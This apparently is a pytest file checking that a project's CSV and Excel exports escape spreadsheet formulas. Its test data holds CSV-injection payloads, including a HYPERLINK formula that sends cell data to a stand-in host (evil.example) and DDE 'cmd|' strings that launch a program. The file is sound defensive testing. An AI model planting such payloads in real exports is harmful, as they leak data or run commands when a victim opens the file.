"""Issue 14.4: every CSV/Excel export neutralises formulas with the one helper (molva.escaping)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy.orm import Session

from molva.cli import main
from molva.corrections import correct_sentiment, export_training_data
from molva.db import make_engine
from molva.escaping import FORMULA_START, spreadsheet_cell
from molva.models import BrandMention, Mention, Source

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Сбербанк")', "+cmd|' /C calc'!A0", "-2+3+cmd|x",
            "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1", "＝1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_become_text(value: str) -> None:
    assert spreadsheet_cell(value) == "'" + value
    assert spreadsheet_cell("Сбербанк = хорошо") == "Сбербанк = хорошо" and spreadsheet_cell(5) == 5


def _add_corrections(db_url: str) -> None:
    engine = make_engine(db_url)
    with Session(engine) as session, session.begin():
        source = Source(name="vk", kind="vk")
        session.add(source)
        session.flush()
        for i, text in enumerate(FORMULAS):
            mention = Mention(source_id=source.id, kind="vk", external_id=f"f{i}", url=f"=HYPERLINK(\"x{i}\")",
                              canonical_url=f"f{i}", author="=1+1", text=text, content_hash=f"{i}" * 64,
                              published_at=datetime.now(UTC))
            session.add(mention)
            session.flush()
            bm = BrandMention(mention_id=mention.id, brand="Сбербанк", alias="Сбербанк", span_start=0, span_end=1,
                              published_at=mention.published_at, sentiment="negative")
            session.add(bm)
            session.flush()
            correct_sentiment(session, bm.id, "neutral", corrected_by="+7 999 000-00-00")
    engine.dispose()


def test_corrections_csv_from_the_cli_has_no_formulas(db_url: str, monkeypatch: pytest.MonkeyPatch,
                                                      tmp_path: Path) -> None:
    _add_corrections(db_url)
    monkeypatch.setenv("MOLVA_DATABASE_URL", db_url)
    out = tmp_path / "fix.csv"
    result = CliRunner().invoke(main, ["corrections", "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as handle:
        text = handle.read()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(FORMULAS) + 1
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)], cells
    assert {row[0] for row in rows[1:]} == {"'" + f for f in FORMULAS}  # the text is kept, as text
    # The dashboard offers the same export (explorer page: export_training_data(session, "csv")).
    engine = make_engine(db_url)
    with Session(engine) as session:
        assert export_training_data(session, "csv") == text
    engine.dispose()
